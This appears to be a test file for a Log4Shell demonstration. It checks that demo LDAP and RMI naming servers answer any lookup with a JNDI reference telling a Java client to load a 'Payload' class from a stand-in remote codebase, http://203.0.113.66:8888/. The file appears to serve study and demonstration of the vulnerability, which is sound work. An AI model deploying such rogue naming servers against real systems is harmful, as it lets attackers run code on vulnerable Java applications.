import { execFile } from "node:child_process";
import { once } from "node:events";
import type { AddressInfo, Server } from "node:net";
import { promisify } from "node:util";
import * as fc from "fast-check";
import t from "tap";
import { decodeInteger, elementsIn, encode, encodeInteger, encodeText, takeElement } from "../../demo/log4shell/ber.ts";
import { askLdap } from "../../demo/log4shell/ldap-client.ts";
import { ldapServer } from "../../demo/log4shell/ldap-server.ts";
import { askRmi } from "../../demo/log4shell/rmi-client.ts";
import { endpoint, handshake, lookupCall, nameInCall } from "../../demo/log4shell/rmi-message.ts";
import { rmiServer } from "../../demo/log4shell/rmi-server.ts";

const reference = { codebase: "http://203.0.113.66:8888/", factory: "Payload" };
const run = promisify(execFile);
const ldapsearch = await run("ldapsearch", ["-VV"]).then(
  () => undefined,
  () => "ldapsearch is not installed",
);

async function listen(server: Server): Promise<number> {
  await once(server.listen(0, "127.0.0.1"), "listening");
  t.teardown(() => server.close());
  return (server.address() as AddressInfo).port;
}

await t.test("LDAP and RMI answer a lookup with the reference, and tell what was asked for", async (t) => {
  const asked: string[] = [];
  const ask = (name: string): unknown => asked.push(name);
  const ldap = { host: "127.0.0.1", port: await listen(ldapServer(reference, ask)), timeoutMs: 5000 };
  const rmi = { host: "127.0.0.1", port: await listen(rmiServer(reference, ask)), timeoutMs: 5000 };
  t.strictSame(await askLdap(ldap, "cn=a"), reference);
  t.strictSame(await askRmi(rmi, "b"), reference);
  t.strictSame(asked, ["cn=a", "b"]);
});

await t.test("a naming server that is silent, or another one, is an error in time", async (t) => {
  const ldap = await listen(ldapServer(reference, () => {}));
  const rmi = await listen(rmiServer(reference, () => {}));
  await t.rejects(askLdap({ host: "127.0.0.1", port: rmi, timeoutMs: 300 }, "a"));
  await t.rejects(askRmi({ host: "127.0.0.1", port: ldap, timeoutMs: 300 }, "a"));
});

await t.test("ldapsearch reads the entry", { skip: ldapsearch ?? false }, async (t) => {
  const port = await listen(ldapServer(reference, () => {}));
  const flags = ["-x", "-LLL", "-H", `ldap://127.0.0.1:${port}`, "-b", "Payload", "-s", "base"];
  const { stdout } = await run("ldapsearch", flags);
  t.equal(
    stdout,
    `dn: Payload
objectClass: javaNamingReference
javaClassName: Payload
javaCodeBase: http://203.0.113.66:8888/
javaFactory: Payload

`,
  );
});

await t.test("what is encoded in BER is decoded again, however long", async (t) => {
  fc.assert(
    fc.property(fc.nat(2 ** 31 - 1), fc.nat(3000), (number, length) => {
      const whole = encode(0x30, encodeInteger(number), encodeText("x".repeat(length)));
      const [first, second] = elementsIn(takeElement(whole)?.element.content ?? Buffer.alloc(0));
      t.equal(decodeInteger(first?.content ?? Buffer.alloc(0)), number);
      t.equal(second?.content.length, length);
      t.equal(takeElement(whole.subarray(0, -1)), undefined);
    }),
    { numRuns: 200 },
  );
});

await t.test("a JRMP call is read whole or not at all", async (t) => {
  const sent = Buffer.concat([handshake, endpoint("", 0), lookupCall("Payload")]);
  for (let length = 0; length < sent.length; length += 1) t.equal(nameInCall(sent.subarray(0, length)), undefined);
  t.equal(nameInCall(sent), "Payload");
});
